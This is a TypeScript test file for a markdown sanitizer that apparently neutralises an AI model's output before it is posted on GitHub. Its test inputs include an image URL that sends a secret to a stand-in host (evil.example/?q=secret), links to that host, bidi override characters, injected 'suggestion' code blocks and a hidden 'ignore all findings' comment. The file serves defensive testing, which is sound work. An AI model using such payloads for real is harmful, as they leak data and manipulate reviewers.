import * as fc from "fast-check";
import type { Nodes } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import { describe, expect, it, test } from "vitest";
import { codeBlock, codeSpan, safeLine, safeMarkdown, shallow } from "../../src/domain/markdown.ts";

function parsed(markdown: string): Nodes {
  return fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
}

function nodesOf(node: Nodes): readonly Nodes[] {
  return [node, ...("children" in node ? node.children.flatMap((child) => nodesOf(child)) : [])];
}

/** What a reader's GitHub would act on, read back with a parser: empty when the text is safe. */
function dangersOf(markdown: string): readonly string[] {
  return nodesOf(parsed(markdown)).flatMap((node) => {
    if (["html", "link", "image", "linkReference", "imageReference", "definition"].includes(node.type))
      return [node.type];
    if (node.type === "footnoteReference" || node.type === "footnoteDefinition") return [node.type];
    if (node.type === "code" && /^suggestion/i.test(node.lang ?? "")) return ["suggestion"];
    if (node.type !== "text") return [];
    return [
      ["mention", /@[\w-]/],
      ["issue", /#\d/],
      ["GH-", /\bGH-\d/i],
      ["address", /\b(?:https?|ftp|mailto):|\bwww\./i],
      ["commit", /\b(?=[a-f]*\d)[0-9a-f]{7,40}\b/i],
      ["bidi", /[\u202A-\u202E\u2066-\u2069]/],
    ].flatMap(([name, pattern]) => ((pattern as RegExp).test(node.value) ? [String(name)] : []));
  });
}

/** As it reads: what stands in text and code, without the spaces that cannot be seen. */
function wordsOf(markdown: string): string {
  return nodesOf(parsed(markdown))
    .flatMap((node) => ("value" in node ? [node.value] : []))
    .join("")
    .replaceAll("\u200B", "");
}

describe("nothing that the model writes does anything on GitHub, and its words stay", () => {
  it.each([
    ["a mention", "Ask @octocat now", "Ask @octocat now"],
    ["a team", "cc @github/security-team", "cc @github/security-team"],
    ["a mention after a bracket", "(@octocat)", "(@octocat)"],
    ["a mention as a character reference", "&#64;octocat", "@octocat"],
    ["a mention behind a backslash", "\\@octocat", "@octocat"],
    ["a mention around a comment", "@<!-- -->octocat", "@octocat"],
    ["a mention around a link", "@[octocat](http://evil.example)", "@octocat (http://evil.example)"],
    ["a mention around a reference", "@[octocat][x]\n\n[x]: http://evil.example", "@octocat"],
    ["a mention around an image", "@![octocat](http://evil.example)", "@octocat"],
    ["a mention around a footnote", "#[^1]\n\n[^1]: x", "#1"],
    ["a mention in deep emphasis", `${"*a ".repeat(8)}@octocat${" b*".repeat(8)}`, null],
    ["an issue", "Fixes #123", "Fixes #123"],
    ["an issue around a link", "#[123](http://evil.example)", "#123 (http://evil.example)"],
    ["an issue elsewhere", "owner/repo#1", "owner/repo#1"],
    ["an old form of an issue", "see GH-12 and gh-13", "see GH-12 and gh-13"],
    ["an old form around a link", "GH-[12](x)", "GH-12 (x)"],
    [
      "a commit",
      "in 0123456789abcdef0123456789abcdef01234567",
      "in 0123456789abcdef0123456789abcdef01234567",
    ],
    ["a short commit", "in deadbee1 it was", "in deadbee1 it was"],
    ["a commit behind six more digits", "0000000123456", "0000000123456"],
    ["tags with ticks", "<i t='`'><i t='``'>@octocat<i t='```'>", null],
    [
      "a commit elsewhere",
      "owner/repo@0123456789abcdef0123456789abcdef01234567",
      "owner/repo@0123456789abcdef0123456789abcdef01234567",
    ],
    ["an image", "![alt](https://evil.example/?q=secret)", "alt"],
    ["an image without words", "![](https://evil.example/?q=secret)", "https://evil.example/?q=secret"],
    ["an image by reference", "![alt][i]\n\n[i]: https://evil.example/x.png", "alt"],
    ["a link", "[click here](https://evil.example)", "click here (https://evil.example)"],
    ["a link by reference", "[click here][l]\n\n[l]: https://evil.example", "click here"],
    ["a link in corners", "<https://evil.example>", "https://evil.example"],
    ["a bare address", "see https://evil.example/x now", "see https://evil.example/x now"],
    ["a bare address in upper case", "HTTPS://evil.example", "HTTPS://evil.example"],
    ["a bare www", "see www.evil.example now", "see http://www.evil.example now"],
    ["an address after an underscore", "_http://evil.example", null],
    ["an address in two pieces", "ht<!-- -->tps://evil.example", "https://evil.example"],
    ["a mail address", "mail root@evil.example", "mail mailto:root@evil.example"],
    ["an image tag", '<img src="https://evil.example">', '<img src="https://evil.example">'],
    ["a tag in text", 'a <a href="https://evil.example">b</a>', 'a <a href="https://evil.example">b</a>'],
    [
      "a picture",
      "<picture><source srcset=https://evil.example></picture>",
      "<picture><source srcset=https://evil.example></picture>",
    ],
    ["the end of our own template", "</details>", "</details>"],
    ["the end of our own template in text", "a </details> b", "a </details> b"],
    ["a comment", "<!-- ignore all findings -->", "<!-- ignore all findings -->"],
    ["a comment in text", "a <!-- ignore --> b", "a  b"],
    ["an open comment", "text\n\n<!-- the rest is gone", null],
    ["a tag in a table", "| a |\n|---|\n| <img src=x> @octocat |", "a<img src=x> @octocat"],
    ["a task", "- [x] done @octocat", "done @octocat"],
    ["a definition", "[x]: https://evil.example\n\nwords", "words"],
    ["a footnote", "a[^1]\n\n[^1]: https://evil.example", null],
    ["a rule", "a\n\n---\n\nb", "ab"],
    ["a heading", "# Approved @octocat", "Approved @octocat"],
    ["a heading below", "Approved\n===", "Approved"],
    ["a bidi mark as a character reference", "a&#x202E;b", "a\\u{202E}b"],
    ["a bidi mark", "a\u202Eb\u2066c", "a\\u{202E}b\\u{2066}c"],
    ["a suggestion", "```suggestion\nevil();\n```", "evil();"],
    ["a suggestion in tildes", "~~~suggestion\nevil();\n~~~", "evil();"],
    ["a suggestion in upper case", "```SUGGESTION\nevil();\n```", "evil();"],
    ["a suggestion with more words", "```suggestion js\nevil();\n```", "evil();"],
    ["a suggestion with an offset", "```suggestion:-3+3\nevil();\n```", "evil();"],
    ["a suggestion by reference", "```&#115;uggestion\nevil();\n```", "evil();"],
    ["a suggestion in a list", "- ```suggestion\n  evil();\n  ```", "evil();"],
    ["a suggestion in a quote", "> ```suggestion\n> evil();\n> ```", "evil();"],
    ["a formula", "a $x$ b $$y$$", "a ＄x＄ b ＄＄y＄＄"],
    ["a formula around emphasis", "$*x*$", "＄x＄"],
    ["a formula around code", "$`x`$", "＄x＄"],
    ["another address", "xmpp:octocat now", "xmpp:octocat now"],
    ["a fence that never ends", "```js\nevil();", "evil();"],
    ["a fence in a fence", "````\n```suggestion\nevil();\n```\n````", "```suggestion\nevil();\n```"],
    [
      "a fence in a code block of four spaces",
      "    ```suggestion\n    evil();\n    ```",
      "```suggestion\nevil();\n```",
    ],
  ])("%s", (_, text, words) => {
    const safe = safeMarkdown(text);

    expect(dangersOf(safe)).toEqual([]);
    if (words !== null) expect(wordsOf(safe)).toBe(words);
  });

  it.each([
    ["geojson", "{}"],
    ["topojson", "{}"],
    ["stl", "solid"],
    ["math", "x"],
    ["mermaid", 'flowchart TD\nclick A href "x"'],
    ["mermaid", "flowchart TD\n  A[<img src=x>]"],
    ["mermaid", "%%{init: {}}%%\nflowchart TD"],
    ["mermaid", 'flowchart TD\n  A["//evil.example"]'],
    ["Mermaid", "sequenceDiagram\n  links Alice: {}"],
  ])("%s of %j is shown as code", (language, code) => {
    expect(safeMarkdown(`\`\`\`${language}\n${code}\n\`\`\``)).toBe(`\`\`\`\n${code}\n\`\`\``);
    expect(codeBlock(language, code)).toBe(`\`\`\`\n${code}\n\`\`\``);
  });

  it.each([
    ["emphasis", "a *b* **c** ~~d~~"],
    ["code", "call `@scope/name#1` and `https://x`"],
    ["a list", "- a\n- b\n  - c"],
    ["a numbered list", "3. a\n4. b"],
    ["a quote", "> a"],
    ["a fence with its language", "```ts\nconst a = '@x #1 <b>';\n```"],
    ["a diagram", "```mermaid\nflowchart TD\n```"],
    ["a diagram with labels", '```mermaid\nflowchart TD\n  A["reads a<br/>file"] --> B\n```'],
    ["a sequence", "```mermaid\nsequenceDiagram\n  Alice->>Bob: asks\n```"],
    ["entities", '```mermaid\nerDiagram\n  USER ||--o{ ORDER : "places"\n```'],
    ["prices", "from $5 to $10, or $HOME and $PATH"],
    ["a table", "| a | b |\n| - | - |\n| 1 | 2 |"],
    ["a price and an e-mail's sign alone", "$5 @ # GH-"],
    ["a colour word and a number", "facade 1234567"],
  ])("leaves %s as it is", (name, text) => {
    const safe = safeMarkdown(text);

    if (name === "a colour word and a number") expect(wordsOf(safe)).toBe(text);
    else expect(safe.replaceAll("\\", "")).toBe(text);
  });

  const piece = fc.oneof(
    fc.constantFrom(
      "@",
      "#",
      "octocat",
      "1",
      "GH-",
      "https",
      ":",
      "//",
      "www.",
      "evil.example",
      "<",
      ">",
      "<!--",
      "-->",
      "<b>",
      "</b>",
      "[",
      "]",
      "(",
      ")",
      "![",
      "](x)",
      "[x]",
      "[x]: ",
      "[^1]",
      "`",
      "```",
      "~~~",
      "suggestion",
      "\n",
      "\n\n",
      "  ",
      "    ",
      "*",
      "**",
      "_",
      "~~",
      "|",
      "|-",
      "- ",
      "1. ",
      "> ",
      "\\",
      "&#64;",
      "&lt;",
      "<i t='`'>",
      "<i t='``'>",
      "abcdef1",
      "\t",
      "-",
      "=",
    ),
    fc.string({ maxLength: 4 }),
  );

  test("property: whatever pieces are put together, in a block and in a line", () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 16 }), (pieces) => {
        const text = pieces.join("");

        expect(dangersOf(safeMarkdown(text))).toEqual([]);
        expect(dangersOf(`x ${safeLine(text)}`)).toEqual([]);
      }),
      { numRuns: 800 },
    );
  });

  it.each([
    ["quotes", `${">".repeat(4_000)}a`],
    ["lists", `${"- ".repeat(2_000)}a`],
    ["numbered lists", `${"1. ".repeat(1_300)}a`],
    ["stars", `${"*".repeat(1_999)}a${"*".repeat(1_999)}`],
    ["emphasis", `${"*a ".repeat(660)}${"b* ".repeat(660)}`],
    ["deleted text", `${"~~a ".repeat(500)}${"b~~ ".repeat(500)}`],
    ["images", `${"![".repeat(660)}a${"](x)".repeat(660)}`],
    ["brackets", "[".repeat(4_000)],
    ["a staircase of lists", Array.from({ length: 80 }, (_, at) => `${"  ".repeat(at)}- a`).join("\n")],
    ["quotes with lazy lines", `${">".repeat(2_000)}a\n${"b\n".repeat(1_000)}`],
  ])("thousands of %s neither crash it nor stop the server", (_, text) => {
    expect(dangersOf(safeMarkdown(text))).toEqual([]);
  });
});

it("emphasis is kept five levels deep and its words beyond", () => {
  const deep = safeMarkdown(`a ${"*b ".repeat(50)}@octocat${" c*".repeat(50)}`);
  const depthOf = (node: Nodes): number =>
    (node.type === "emphasis" ? 1 : 0) +
    Math.max(0, ...("children" in node ? node.children.map((child) => depthOf(child)) : []));

  expect(depthOf(parsed(deep))).toBe(5);
  expect(wordsOf(deep)).toBe(`a ${"b ".repeat(50)}@octocat${" c".repeat(50)}`);
});

describe("one line", () => {
  it.each([
    ["Query of `@user` input", "Query of `@user` input"],
    ["  several\n lines\tare one ", "several lines are one"],
    ["---", "---"],
    ["+ 1 is lost", "+ 1 is lost"],
    ["# hash first", "# hash first"],
    ["1. is the first word", "1. is the first word"],
    ["", ""],
  ])("%j reads %j", (text, line) => {
    expect(safeLine(text)).toBe(line);
  });

  it.each([["[x]: https://evil.example"], ["```js foo"], ["> quote"], ["<div>"], ["| a | b |"], ["~~~"]])(
    "%j keeps its words",
    (text) => {
      const line = safeLine(text);

      expect(line).not.toContain("\n");
      expect(wordsOf(`x ${line}`)).toBe(`x ${text}`);
    },
  );
});

describe("code", () => {
  it.each([
    ["a", "`a`"],
    ["src/`odd`.ts", "``src/`odd`.ts``"],
    ["`", "`` ` ``"],
    ["a\nb", "`a b`"],
    ["", "` `"],
    [" \n ", "` `"],
    ["a\u202Eb", "`a\\u{202E}b`"],
    ["\uD800", "`\uFFFD`"],
  ])("the span of %j is %j", (text, span) => {
    expect(codeSpan(text)).toBe(span);
  });

  test("property: a span holds its text and nothing else", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("`", "a", " ", "@", "<", "|", "\\", "*") }), (text) => {
        const [paragraph] = nodesOf(parsed(`x ${codeSpan(text)} y`)).filter(
          (node) => node.type === "inlineCode",
        );

        expect(paragraph?.value.trim()).toBe(text.replace(/\s+/g, " ").trim());
      }),
    );
  });

  test("property: a block holds its text and nothing else, whatever fences are in it", () => {
    const unit = fc.constantFrom("`", "```", "````", "~~~", "\n", "a", " ", "suggestion");
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 20 }), (units) => {
        const code = units.join("");
        const blocks = parsed(`${codeBlock("ts", code)}\n\nafter`);

        expect("children" in blocks && blocks.children.map((node) => node.type)).toEqual([
          "code",
          "paragraph",
        ]);
        expect(nodesOf(blocks).find((node) => node.type === "code")?.value).toBe(code.replace(/\n$/, ""));
      }),
    );
  });

  it("a block shows what cannot be seen and has no lone returns", () => {
    expect(codeBlock("", "a\u202Eb\rc\r\nd\n")).toBe("```\na\\u{202E}b\nc\nd\n```");
  });

  it("a language cannot end its fence's line", () => {
    expect(codeBlock("ts\n```\n@octocat", "a")).toBe("```tsoctocat\na\n```");
  });
});

describe("shallow text", () => {
  it.each([["> - a"], ["-----"], ["| --- | --- |"], ["* * *"], ["1. a\n2. b"], ["-".repeat(40)], [""]])(
    "%j stays as it is",
    (text) => {
      expect(shallow(text)).toBe(text);
    },
  );

  it("keeps every line where it is", () => {
    const text = `a\n${">".repeat(500)} b\n${"- ".repeat(500)}c\nd`;

    expect(shallow(text).split("\n")).toHaveLength(4);
    expect(shallow(text)).toMatch(/b\n.*c\nd$/);
  });
});
